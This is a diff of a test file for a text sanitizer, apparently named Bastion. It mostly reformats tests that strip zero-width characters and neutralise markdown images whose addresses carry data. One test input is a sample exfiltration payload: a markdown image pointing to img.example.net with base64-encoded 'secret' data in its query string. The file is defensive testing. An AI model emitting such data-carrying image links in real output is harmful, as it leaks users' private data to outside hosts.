@@ -24,8 +24,13 @@ test("zero-width characters are removed but emoji joiners are kept", () => {
 });
 
 test("a markdown image whose address carries data is replaced by a notice", () => {
-  const result = sanitizeUntrustedText("Chart: ![c](https://img.example.net/p.png?d=SGVsbG8gc2VjcmV0IHdvcmxkIQ) done");
-  assert.equal(result.text, "Chart: [image removed by Bastion: its address carried data to img.example.net] done");
+  const result = sanitizeUntrustedText(
+    "Chart: ![c](https://img.example.net/p.png?d=SGVsbG8gc2VjcmV0IHdvcmxkIQ) done",
+  );
+  assert.equal(
+    result.text,
+    "Chart: [image removed by Bastion: its address carried data to img.example.net] done",
+  );
   assert.equal(result.findings[0]?.kind, "markdown-exfiltration");
 });
 
@@ -35,7 +40,8 @@ test("a link whose address waits for data keeps its label", () => {
 });
 
 test("badges and ordinary links with short query strings are left alone", () => {
-  const text = "[![ci](https://img.shields.io/badge/ci.svg?branch=main&style=flat)](https://github.com/acme/x/actions?query=branch)";
+  const text =
+    "[![ci](https://img.shields.io/badge/ci.svg?branch=main&style=flat)](https://github.com/acme/x/actions?query=branch)";
   assert.equal(sanitizeUntrustedText(text).text, text);
   assert.equal(urlCarriesData("https://example.org/search?q=banana+bread", "link"), false);
   assert.equal(urlCarriesData("https://t.example/p.gif?u=4f9a2c1e7b3d8a6f0e5c", "image"), true);
